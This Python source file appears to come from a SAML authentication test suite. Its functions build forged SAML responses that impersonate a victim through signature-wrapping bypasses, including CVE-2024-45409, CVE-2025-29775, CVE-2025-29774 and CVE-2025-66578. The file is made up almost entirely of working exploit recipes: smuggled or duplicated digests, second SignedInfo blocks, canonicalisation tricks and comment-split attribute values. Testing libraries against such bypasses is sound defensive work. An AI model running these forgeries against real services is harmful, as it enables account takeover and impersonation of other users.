"""How messages are bent: recipes that get a `Forge` (see attacks.py) and give a tree, a text or bytes.

`f.mine` is an honest draft about the attacker, who has an identity of their own at the provider; `f.forged` is one about the victim.
"""

import hashlib

from lxml import etree

from signer import DS, NS, SAMLP, SHA256, assertion_of, b64, canonical, sign, signature_of, signed, text


def honest(f, **how):
    return signed(f.mine, f.key, **how)


def edited(old, new, count=1):
    """The honest response with this text in place of that, after it was signed."""
    def recipe(f):
        before = text(honest(f, response=count == 2))
        old_text, new_text = (value(f) if callable(value) else value for value in (old, new))
        after = before.replace(old_text, new_text, 1)
        assert after != before, f"nothing to edit: {old_text}"
        return after
    return recipe


def prefixed(before, after=""):
    return lambda f: before + text(honest(f)) + after


def drafted(**changes):
    """Honestly signed, but of something else."""
    return lambda f: signed(f.mine.but(**{k: v(f) if callable(v) else v for k, v in changes.items()}), f.key)


def with_key(pick, **how):
    """The victim's assertion, signed with this key."""
    def recipe(f):
        found = {k: v(f) if callable(v) else v for k, v in how.items()}
        return signed(f.forged, pick(f), **found)
    return recipe


def formed(**how):
    """About the victim and signed with the provider's very key, in a form no provider uses: the library alone may take it."""
    return with_key(lambda f: f.key, **how)


def attributes(*pairs, drop=()):
    """The attacker's own attributes without those dropped, and these."""
    def recipe(f):
        kept = [(n, v) for n, v in f.mine.attributes if n not in drop]
        return signed(f.mine.but(attributes=kept + [(n, v(f) if callable(v) else v) for n, v in pairs]), f.key)
    return recipe


def code(make):
    return attributes(("fiscalNumber", lambda f: make(f.victim.code)), drop=("fiscalNumber",))


def in_info(change):
    """A change of the SignedInfo by whoever holds no key: the SignatureValue stays."""
    def recipe(f):
        root = honest(f)
        change(f, root, signature_of(assertion_of(root)))
        return root
    return recipe


def forged_digest(f):
    """The digest of the victim's assertion, as base64."""
    forged = f.mine.but(code=f.victim.code, name=f.victim.name, family=f.victim.family, assertion_id=f.mine.assertion_id)
    return forged, b64(hashlib.sha256(canonical(assertion_of(forged.tree()))).digest())


def swap_content(f, root):
    """Puts the victim's content into the signed assertion, under its id and its signature."""
    forged, digest = forged_digest(f)
    mine, theirs = assertion_of(root), assertion_of(forged.tree())
    signature = signature_of(mine)
    for child in list(mine):
        mine.remove(child)
    mine.extend(list(theirs))
    mine.insert(1, signature)
    return signature, digest


def smuggled_digest(f):
    """CVE-2024-45409: a DigestValue of the forged content in a place the signature does not cover."""
    root = honest(f)
    _, digest = swap_content(f, root)
    detail = etree.SubElement(root.find("samlp:Status", NS), f"{{{SAMLP}}}StatusDetail")
    etree.SubElement(detail, f"{{{DS}}}DigestValue").text = digest
    return root


def comment_in_digest(f):
    """CVE-2025-29775: the digest as a comment before the signed one; a reader of the first text takes the wrong one."""
    root = honest(f)
    signature, digest = swap_content(f, root)
    value = signature.find(".//ds:DigestValue", NS)
    real, value.text = value.text, None
    value.append(etree.Comment(digest))
    value[-1].tail = real
    return root


def two_digests(first):
    def recipe(f):
        root = honest(f)
        signature, digest = swap_content(f, root)
        reference = signature.find(".//ds:Reference", NS)
        extra = etree.Element(f"{{{DS}}}DigestValue")
        extra.text = digest
        reference.insert(2 if first else 3, extra)
        return root
    return recipe


def split_digest(f):
    root = honest(f)
    signature, digest = swap_content(f, root)
    value = signature.find(".//ds:DigestValue", NS)
    child = etree.SubElement(value, "x")
    child.tail, value.text = value.text, digest
    return root


def two_infos(place):
    """CVE-2025-29774: a second SignedInfo with the digest of the forged content."""
    def recipe(f):
        root = honest(f)
        signature, digest = swap_content(f, root)
        extra = etree.fromstring(etree.tostring(signature[0]))
        extra.find(".//ds:DigestValue", NS).text = digest
        if place == "key info":
            signature.find("ds:KeyInfo", NS).append(extra)
        elif place == "signature value":
            signature[1].insert(0, extra)
        else:
            signature.insert(0 if place == "first" else 1, extra)
        return root
    return recipe


def void_canonical(**how):
    """CVE-2025-66578: a namespace that canonicalisers choke on, and a digest or signature over nothing at all."""
    def recipe(f):
        root = f.forged.tree()
        sign(assertion_of(root), f.key, **how)
        return text(root).replace("<saml:Assertion ", '<saml:Assertion xmlns:void="1" void:a="b" ', 1)
    return recipe


def manifest(f):
    inner = '<ds:Object><ds:Manifest Id="m"><ds:Reference URI=""/></ds:Manifest></ds:Object>'
    return signed(f.forged, f.stranger, objects=inner)


def second_reference(f):
    more = (f'<ds:Reference URI="#{f.forged.response_id}"><ds:DigestMethod Algorithm="{SHA256}"/><ds:DigestValue/></ds:Reference>')
    return signed(f.forged, f.key, more_references=more)


def other_reference(f):
    """The assertion's signature covers another element's id."""
    return signed(f.forged, f.key, uri="#" + f.forged.response_id)


def only_response(f):
    return signed(f.forged, f.key, assertion=False, response=True)


def response_tampered(f):
    root = signed(f.mine, f.key, response=True)
    root.set("ID", root.get("ID") + "x")
    return root


def stranger_on_response(f):
    root = signed(f.mine, f.key)
    sign(root, f.stranger)
    return root


def stripped_of(path):
    def recipe(f):
        root = honest(f)
        node = assertion_of(root).find(path, NS)
        node.getparent().remove(node)
        return root
    return recipe


def emptied(path):
    def recipe(f):
        root = honest(f)
        assertion_of(root).find(path, NS).text = ""
        return root
    return recipe


def doubled(path):
    """Honestly signed with an element twice, the second one about the victim."""
    def recipe(f):
        root, theirs = f.mine.tree(), assertion_of(f.forged.tree())
        node = assertion_of(root).find(path, NS)
        node.addnext(theirs.find(path, NS))
        sign(assertion_of(root), f.key)
        return root
    return recipe


def two_values(f):
    both = "".join(f"<saml:AttributeValue>TINIT-{c}</saml:AttributeValue>" for c in (f.mine.code, f.victim.code))
    return attributes(("fiscalNumber", both), drop=("fiscalNumber",))(f)


def nested_value(f):
    inner = f"<saml:AttributeValue>TINIT-<b>{f.victim.code}</b></saml:AttributeValue>"
    return attributes(("fiscalNumber", inner), drop=("fiscalNumber",))(f)


def signed_with_comment(f):
    """The provider itself signs a code with a comment inside: the canonical form drops it, a text node reader sees two halves."""
    half = f.victim.code[:8] + "<!-- -->" + f.victim.code[8:]
    return attributes(("fiscalNumber", f"<saml:AttributeValue>TINIT-{half}</saml:AttributeValue>"), drop=("fiscalNumber",))(f)
